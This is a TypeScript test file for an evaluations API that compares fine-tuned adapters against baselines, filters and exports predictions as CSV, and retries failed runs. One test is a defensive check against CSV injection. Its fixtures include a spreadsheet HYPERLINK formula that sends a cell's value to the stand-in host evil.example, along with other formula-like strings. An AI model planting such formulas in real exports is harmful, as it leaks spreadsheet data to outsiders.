import { describe, expect, it } from "vitest";
import { Evaluation } from "@loraboard/contracts";
import { getDb } from "@loraboard/db/server";
import { QueueName } from "@loraboard/queue";
import { getQueue } from "@loraboard/queue/server";
import { GET as listRoute, POST as createRoute } from "@/app/api/evaluations/route";
import { GET as getRoute } from "@/app/api/evaluations/[id]/route";
import { GET as predictionsRoute } from "@/app/api/evaluations/[id]/predictions/route";
import { POST as retryRoute } from "@/app/api/evaluations/[id]/retry/route";
import { apiRequest, routeParams } from "../../../../../tests/helpers/api";
import { createDataset } from "../../../../../tests/helpers/factories";
import { createTrainingJobRow } from "../../../../../tests/helpers/training";

const post = (body: unknown) =>
  createRoute(apiRequest("/api/evaluations", { method: "POST", body: JSON.stringify(body) }), routeParams({}));

const get = async (id: string) => Evaluation.parse(await (await getRoute(apiRequest(`/api/evaluations/${id}`), routeParams({ id }))).json());

/** Metrics of a 0/1 report with this accuracy and invalid rate (the figures the lift reads). */
const metricsOf = (accuracy: number, invalidRate: number) => ({
  accuracy,
  validAccuracy: accuracy,
  invalidRate,
  macroF1: accuracy,
  perClass: { "0": { precision: 1, recall: 1, f1: 1, support: 1 }, "1": { precision: 1, recall: 1, f1: 1, support: 1 } },
  confusion: { labels: ["0", "1", "invalid"], matrix: [[1, 0, 0], [0, 1, 0]] },
});

describe("evaluations API", () => {
  it("shows an adapter evaluation's zero-shot baseline and its lift in points, pending until the baseline succeeds", async () => {
    const db = getDb();
    const dataset = await createDataset();
    const job = await createTrainingJobRow(dataset.id);
    const adapter = await db.adapter.create({ data: { name: job.adapterName, jobId: job.id, baseModelId: "demo-tiny-zh", path: "/nowhere" } });
    const baseline = await db.evaluation.create({
      data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 6, status: "running", baselineKey: "key", labelWords: { "0": "消极", "1": "积极" } },
    });
    const adapterEvaluation = await db.evaluation.create({
      data: { model: adapter.name, adapterId: adapter.id, jobId: job.id, datasetId: dataset.id, split: "test", total: 6, status: "succeeded", metrics: metricsOf(0.88, 0), baselineId: baseline.id },
    });

    expect((await get(adapterEvaluation.id)).baseline).toEqual({ id: baseline.id, status: "running", accuracy: null, invalidRate: null, macroF1: null, lift: null });
    await db.evaluation.update({ where: { id: baseline.id }, data: { status: "succeeded", metrics: metricsOf(0.7, 0.125) } });
    const shown = await get(adapterEvaluation.id);
    expect(shown.isBaseline).toBe(false);
    expect(shown.baseline).toEqual({ id: baseline.id, status: "succeeded", accuracy: 0.7, invalidRate: 0.125, macroF1: 0.7, lift: 18 });
    expect(await get(baseline.id)).toMatchObject({ isBaseline: true, baseline: null, adapterId: null });
    const listed = await (await listRoute(apiRequest(`/api/evaluations?datasetId=${dataset.id}`), routeParams({}))).json();
    expect(listed.items.find((item: Evaluation) => item.id === adapterEvaluation.id).baseline.lift).toBe(18);
  });

  it("creates a queued evaluation of a base model on the test split and enqueues it", async () => {
    const dataset = await createDataset();
    const response = await post({ model: "demo-tiny-zh", datasetId: dataset.id, split: "test" });
    expect(response.status).toBe(201);
    const created = Evaluation.parse(await response.json());
    expect(created).toMatchObject({ status: "queued", total: 6, split: "test", fewShot: 0 });
    expect((await getQueue(QueueName.evaluate).getJob(created.id))?.data).toEqual({ evaluationId: created.id });
    const listed = await (await listRoute(apiRequest(`/api/evaluations?datasetId=${dataset.id}`), routeParams({}))).json();
    expect(listed.items.map((e: Evaluation) => e.id)).toEqual([created.id]);
    await getQueue(QueueName.evaluate).obliterate({ force: true });
  });

  it("refuses unknown models and datasets, bad splits and impossible few-shot, creating nothing", async () => {
    const dataset = await createDataset();
    const cases: [unknown, number, string][] = [
      [{ model: "nope", datasetId: dataset.id }, 404, "model_not_found"],
      [{ model: "demo-tiny-zh", datasetId: "nope" }, 404, "dataset_not_found"],
      [{ model: "demo-tiny-zh", datasetId: dataset.id, split: "dev" }, 422, "invalid_request"],
      [{ model: "demo-tiny-zh", datasetId: dataset.id, fewShot: 99 }, 422, "invalid_request"],
      [{ datasetId: dataset.id }, 422, "invalid_request"],
    ];
    for (const [body, status, code] of cases) {
      const response = await post(body);
      expect(response.status, JSON.stringify(body)).toBe(status);
      expect((await response.json()).error.code).toBe(code);
    }
    expect(await getDb().evaluation.count()).toBe(0);
  });

  it("pages, filters and searches predictions, and exports them as CSV", async () => {
    const dataset = await createDataset();
    const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 4, status: "succeeded" } });
    await getDb().prediction.createMany({
      data: [
        { evaluationId: evaluation.id, index: 1, sentence: "好评, \"真好\"", label: "1", predicted: "1", output: "积极" },
        { evaluationId: evaluation.id, index: 2, sentence: "差评", label: "0", predicted: "1", output: "积极" },
        { evaluationId: evaluation.id, index: 3, sentence: "一般", label: "0", predicted: null, output: "嗯" },
        { evaluationId: evaluation.id, index: 4, sentence: "还行", label: "1", predicted: "1", output: "积极" },
      ],
    });
    const page = async (query: string) =>
      (await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?${query}`), routeParams({ id: evaluation.id }))).json();
    expect((await page("filter=all&limit=2")).items.map((p: { index: number }) => p.index)).toEqual([1, 2]);
    expect((await page("filter=all&limit=2")).total).toBe(4);
    expect((await page("filter=wrong")).items.map((p: { index: number }) => p.index)).toEqual([2, 3]);
    expect((await page("filter=invalid")).items).toEqual([{ index: 3, sentence: "一般", label: 0, predicted: null, output: "嗯" }]);
    expect((await page("q=差")).items.map((p: { index: number }) => p.index)).toEqual([2]);
    expect((await page("filter=wrong&label=0")).items.map((p: { index: number }) => p.index)).toEqual([2, 3]);
    expect((await page("label=1")).total).toBe(2);

    const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines[0]).toBe("index,sentence,label,predicted,correct,output");
    expect(lines[1]).toBe('1,"好评, ""真好""",1,1,1,积极');
    expect(lines[3]).toBe("3,一般,0,,0,嗯");

    const missing = await getRoute(apiRequest("/api/evaluations/none"), routeParams({ id: "none" }));
    expect(missing.status).toBe(404);
  });

  it("neutralises formula-like sentences and model outputs in the CSV export (CSV injection)", async () => {
    const dataset = await createDataset();
    const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 2, status: "succeeded" } });
    await getDb().prediction.createMany({
      data: [
        { evaluationId: evaluation.id, index: 1, sentence: '=HYPERLINK("http://evil.example/?x="&B3,"点")', label: "1", predicted: "1", output: "@SUM(1,2)" },
        { evaluationId: evaluation.id, index: 2, sentence: "\t+1+cmd", label: "0", predicted: null, output: "-2+3" },
      ],
    });
    const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://evil.example/?x=""&B3,""点"")",1,1,1,"'@SUM(1,2)"`);
    expect(lines[2]).toBe(`2,"'\t+1+cmd",0,,0,"'-2+3"`);
  });

  it("retries a failed evaluation from where it stopped, keeping the stored predictions (issue 16 item 9)", async () => {
    const dataset = await createDataset();
    const error = { code: "inference_unavailable", message: "The inference server refused a completion: connect ECONNREFUSED" };
    const evaluation = await getDb().evaluation.create({
      data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 6, status: "failed", completed: 2, error, finishedAt: new Date() },
    });
    await getDb().prediction.createMany({
      data: [1, 2].map((index) => ({ evaluationId: evaluation.id, index, sentence: "好", label: "1", predicted: "1", output: "积极" })),
    });
    const retry = (id: string) => retryRoute(apiRequest(`/api/evaluations/${id}/retry`, { method: "POST" }), routeParams({ id }));
    const response = await retry(evaluation.id);
    expect(response.status).toBe(202);
    expect(Evaluation.parse(await response.json())).toMatchObject({ status: "queued", completed: 2, error: null, finishedAt: null });
    expect(await getDb().prediction.count({ where: { evaluationId: evaluation.id } })).toBe(2);
    const queued = await getQueue(QueueName.evaluate).getJobs(["waiting"]);
    expect(queued.map((job) => job.data)).toContainEqual({ evaluationId: evaluation.id });
    // Queued now: a second retry (a double click) is refused, not enqueued twice.
    const again = await retry(evaluation.id);
    expect(again.status).toBe(409);
    expect((await again.json()).error.code).toBe("not_retryable");
    expect((await retry("none")).status).toBe(404);
    await getQueue(QueueName.evaluate).obliterate({ force: true });
  });
});
